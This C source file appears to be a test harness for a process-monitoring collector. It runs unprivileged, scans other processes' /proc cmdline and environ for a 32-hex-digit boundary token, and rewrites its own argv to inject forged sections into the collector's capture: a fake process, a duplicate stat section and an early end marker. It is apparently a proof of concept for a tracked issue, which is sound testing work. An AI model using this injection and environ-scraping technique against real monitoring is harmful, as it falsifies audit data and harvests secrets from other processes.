/*
 * forger: an unprivileged board process that tries to forge sections of a mapsdiff capture
 * (the attack of issue 9).   forger LOGFILE [BOUNDARY_FILE] PADDING
 * Drops to uid/gid 65534, renames itself "forg\ner" (a newline in comm, as PR_SET_NAME
 * allows), then loops: it reads every other process's cmdline and environ looking for a
 * boundary (32 lower-case hex digits, as the SSH collector draws them), or reads one from
 * BOUNDARY_FILE when given ('-' for none). For each new boundary it rewrites its own argv
 * (the PADDING argument's bytes) so that its cmdline carries forged section lines, in turn:
 *   0: a fake process, pid 999999, whose maps has a 1.5 GiB [heap]
 *   1: a second `pid SELF stat` section (a duplicate)
 *   2: an `end` line
 * LOGFILE gets one line per scan batch ("scans N") and per forgery ("forged MODE BOUNDARY").
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

static char *area;   /* the PADDING argument: ours to overwrite */
static size_t room;  /* its length (its NUL stays, so the kernel reads argv as it is) */

static int read_file(const char *path, char *buf, size_t cap)
{
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	size_t n = 0;
	ssize_t r;
	while (n < cap - 1 && (r = read(fd, buf + n, cap - 1 - n)) > 0)
		n += (size_t)r;
	close(fd);
	buf[n] = 0;
	return (int)n;
}

/* A run of exactly 32 lower-case hex digits in buf[0..n) into out; 1 when found. */
static int find_boundary(const char *buf, int n, char *out)
{
	for (int i = 0; i + 32 <= n; i++) {
		if (i > 0 && isxdigit((unsigned char)buf[i - 1]))
			continue;
		int k = 0;
		while (i + k < n && ((buf[i + k] >= '0' && buf[i + k] <= '9') || (buf[i + k] >= 'a' && buf[i + k] <= 'f')))
			k++;
		if (k == 32) {
			memcpy(out, buf + i, 32);
			out[32] = 0;
			return 1;
		}
		i += k;
	}
	return 0;
}

static void forge(int mode, const char *b)
{
	char text[1024];
	pid_t me = getpid();
	const char *stat_tail = "S 1 999999 999999 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 100 1610612736 100 4294967295 "
		"65536 66000 3204448256 0 0 0 0 0 0 0 17 0 0 0 0 0 0 69632 70000 71000 3204450000 3204450100 3204450100 3204452000 0";
	int n;
	if (mode == 0)
		n = snprintf(text, sizeof text, "\n%s pid 999999 stat\n999999 (fake) %s\n%s pid 999999 maps\n"
			"10000000-70000000 rw-p 00000000 00:00 0          [heap]\n%s pid 999999 cmdline\nfake", b, stat_tail, b, b);
	else if (mode == 1)
		n = snprintf(text, sizeof text, "\n%s pid %d stat\n%d (dup) %s\n%s pid 999999 cmdline\nfake", b, (int)me, (int)me, stat_tail, b);
	else
		n = snprintf(text, sizeof text, "\n%s end\n", b);
	if (n <= 0 || (size_t)n >= room)
		return;
	/* right-aligned: the real cmdline ends where the forged text ends, at argv's own NUL */
	memset(area, 'x', room - (size_t)n);
	memcpy(area + room - (size_t)n, text, (size_t)n);
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	FILE *log = fopen(argv[1], "w");
	if (!log)
		return 2;
	setvbuf(log, NULL, _IOLBF, 0);
	const char *bfile = strcmp(argv[2], "-") ? argv[2] : NULL;
	area = argv[3];
	room = strlen(area);
	if (getuid() == 0 && (setgid(65534) || setuid(65534)))
		return 3;
	prctl(PR_SET_NAME, "forg\ner", 0, 0, 0);
	fprintf(log, "ready uid %d\n", (int)getuid());

	static char buf[256 * 1024];
	char seen[33] = "", b[33], path[64];
	int forgeries = 0;
	for (unsigned long scans = 1;; scans++) {
		int found = 0;
		if (bfile) {
			int n = read_file(bfile, buf, sizeof buf);
			found = n > 0 && find_boundary(buf, n, b);
		}
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (!found && d && (e = readdir(d))) {
			if (!isdigit((unsigned char)e->d_name[0]) || atoi(e->d_name) == getpid())
				continue;
			static const char *const files[] = { "cmdline", "environ" };
			for (int f = 0; f < 2 && !found; f++) {
				snprintf(path, sizeof path, "/proc/%s/%s", e->d_name, files[f]);
				int n = read_file(path, buf, sizeof buf);
				found = n > 0 && find_boundary(buf, n, b);
			}
		}
		if (d)
			closedir(d);
		if (found && strcmp(b, seen)) {
			strcpy(seen, b);
			forge(forgeries % 3, b);
			fprintf(log, "forged %d %s\n", forgeries % 3, b);
			forgeries++;
		}
		if (scans % 200 == 0)
			fprintf(log, "scans %lu\n", scans);
		usleep(2000);
	}
}
